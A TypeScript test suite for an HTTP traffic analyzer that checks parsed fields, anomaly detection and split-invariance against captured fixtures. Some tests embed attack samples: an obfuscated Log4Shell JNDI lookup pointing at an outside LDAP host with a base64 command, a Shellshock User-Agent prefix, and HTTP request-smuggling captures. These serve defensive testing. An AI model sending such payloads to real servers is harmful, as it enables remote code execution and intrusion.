/**
 * Real captures (fixtures/*.txt, extracted from /work/shared/corpus/pcaps by fixtures/extract.sh):
 * anomalies per capture, every-split invariance, field spans.
 */
import {describe, expect, it} from 'vitest'
import {runAnalyzer, summarize, type ScriptStep} from '../harness.js'
import {httpAnalyzer} from './index.js'
import {FIXTURES, loadFixture, spanProblems, streamOf, val, vals} from './testing.js'

/** feed each step cut in two at `cut` bytes of the whole conversation's direction-ordered script */
function cutAt(steps: readonly ScriptStep[], cut: number): ScriptStep[] {
  const out: ScriptStep[] = []
  let seen = 0
  for (const s of steps) {
    if (cut > seen && cut < seen + s.data.length) {
      out.push({dir: s.dir, data: s.data.subarray(0, cut - seen)}, {dir: s.dir, data: s.data.subarray(cut - seen)})
    } else {
      out.push(s)
    }
    seen += s.data.length
  }
  return out
}

function analyze(name: string) {
  const steps = loadFixture(name)
  const r = runAnalyzer(httpAnalyzer, steps)
  return {steps, ...r, events: r.anomalies.map((a) => a.event), reqs: r.pdus.filter((p) => p.kind === 'request')}
}

describe('fixtures from the corpus', () => {
  it.each(['get', 'pipelined', 'wikipedia-1', 'wikipedia-2', 'webdav-1', 'webdav-2', 'log4shell-class'])('benign %s: no anomalies, every request and response seen', (name) => {
    const r = analyze(name)
    expect(r.events).toEqual([])
    expect(r.reqs.length).toBeGreaterThan(0)
    expect(r.pdus.filter((p) => p.kind === 'response').length).toBe(r.reqs.length)
  })

  it('get: request fields', () => {
    const r = analyze('get')
    const p = r.reqs[0]
    expect(val(p, 'http.uri.path')).toBe('/download/CHANGES.bro-aux.txt')
    expect(val(p, 'http.uri.extension')).toBe('txt')
    expect(vals(p, 'http.header.user-agent')).toEqual(['Wget/1.14 (darwin12.2.0)'])
    const resp = r.pdus.find((x) => x.kind === 'response')
    expect(val(resp, 'http.status')).toBe(200)
    expect(val(resp, 'http.response.content_length')).toBe(4705n)
    expect(val(resp, 'http.response.body.truncated')).toBe(1)
  })

  it('pipelined: five requests, responses paired', () => {
    const r = analyze('pipelined')
    expect(r.reqs.map((p) => val(p, 'http.uri.path'))).toEqual([
      '/style/enhanced.css', '/script/urchin.js', '/images/template/screen/bullet_utility.png',
      '/images/template/screen/key-point-top.png', '/projects/calendar/images/header-sunbird.png',
    ])
  })

  it('webdav: methods', () => {
    expect(analyze('webdav-1').reqs.map((p) => val(p, 'http.method'))).toEqual(['PROPFIND', 'PROPFIND'])
    expect(analyze('webdav-2').reqs.map((p) => val(p, 'http.method'))).toEqual(['PROPPATCH', 'PROPPATCH'])
  })

  it('smuggling-te-cl: CL+TE raises http.cl_and_te, the smuggled GET is its own PDU', () => {
    const r = analyze('smuggling-te-cl')
    expect(r.events).toEqual(['http.cl_and_te'])
    expect(r.reqs.map((p) => val(p, 'http.uri.raw'))).toEqual(['/', '/smuggled-te-cl'])
  })

  it('cl-uint64max: Content-Length 2^64-1 raises http.content_length_overflow, the smuggled GET is its own PDU', () => {
    const r = analyze('cl-uint64max')
    expect(r.events).toEqual(['http.content_length_overflow'])
    expect(val(r.reqs[0], 'http.content_length')).toBe(18446744073709551615n)
    expect(r.reqs.map((p) => val(p, 'http.uri.raw'))).toEqual(['/', '/smuggled-cl-uint64max'])
  })

  it('smuggling-cl-te: the Transfer-Encoding sits inside a message/rfc822 body, so correct framing sees no conflict', () => {
    // zeek's smuggle-http-request trace: POST /first has only Content-Length: 80; its body is a
    // MIME message whose own header says "Transfer-Encoding: chunked". A parser that honours
    // Content-Length (as RFC 9112 says) frames it right and sees the second request.
    const r = analyze('smuggling-cl-te')
    expect(r.events).toEqual([])
    expect(r.reqs.map((p) => val(p, 'http.uri.raw'))).toEqual(['/first', '/smuggle-this'])
    expect(val(r.reqs[0], 'http.body.length')).toBe(80)
    expect(String(val(r.reqs[0], 'http.body'))).toContain('Transfer-Encoding: chunked')
  })

  it('shellshock: payload in User-Agent', () => {
    const r = analyze('shellshock')
    expect(r.events).toEqual([])
    expect(String(val(r.reqs[0], 'http.header.user-agent'))).toMatch(/^\(\) \{ :;\};/)
    expect(val(r.reqs[0], 'http.uri.extension')).toBe('cgi')
  })

  it('log4shell: decoded query and arg expose the JNDI lookup', () => {
    const r = analyze('log4shell-uri')
    expect(r.events).toEqual([])
    const p = r.reqs[0]
    expect(String(val(p, 'http.arg.q'))).toBe('${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://34.91.73.37:1389/Basic/Command/Base64/cGluZyAtYyAxMCAxLjEuMS4x}')
    expect(String(val(p, 'http.uri.decoded'))).toContain('${${::-j}')
  })

  it.each(FIXTURES)('%s: every field span maps onto its stream bytes', (name) => {
    const r = analyze(name)
    expect(spanProblems(r.pdus, {toserver: streamOf(r.steps, 'toserver'), toclient: streamOf(r.steps, 'toclient')})).toEqual([])
  })

  it.each(FIXTURES)('%s: same PDUs and anomalies whole, in 1-byte chunks and cut at every position', (name) => {
    const steps = loadFixture(name)
    const whole = runAnalyzer(httpAnalyzer, steps)
    const want = summarize(whole.pdus)
    const wantA = whole.anomalies.map((a) => a.event)
    const bytewise = runAnalyzer(httpAnalyzer, steps, {chunkSize: 1})
    expect(summarize(bytewise.pdus)).toEqual(want)
    expect(bytewise.anomalies.map((a) => a.event)).toEqual(wantA)
    const total = steps.reduce((n, s) => n + s.data.length, 0)
    // every cut for the small captures; a stride over the big ones keeps the suite fast
    const stride = total > 8000 ? Math.ceil(total / 1500) : 1
    const wantJson = JSON.stringify(want)
    for (let cut = 1; cut < total; cut += stride) {
      const got = summarize(runAnalyzer(httpAnalyzer, cutAt(steps, cut)).pdus)
      // cheap string compare per cut; the deep diff only on a mismatch
      if (JSON.stringify(got) !== wantJson) expect({cut, got}).toEqual({cut, got: want})
    }
  })

  it('every prefix of a request emits nothing beyond what the whole emits', () => {
    const steps = loadFixture('smuggling-te-cl').filter((s) => s.dir === 'toserver')
    const all = Buffer.concat(steps.map((s) => s.data))
    const want = summarize(runAnalyzer(httpAnalyzer, [{dir: 'toserver', data: all}], {end: false}).pdus)
    for (let i = 0; i <= all.length; i++) {
      const got = summarize(runAnalyzer(httpAnalyzer, [{dir: 'toserver', data: all.subarray(0, i)}], {end: false}).pdus)
      expect(want.slice(0, got.length)).toEqual(got)
    }
  })
})
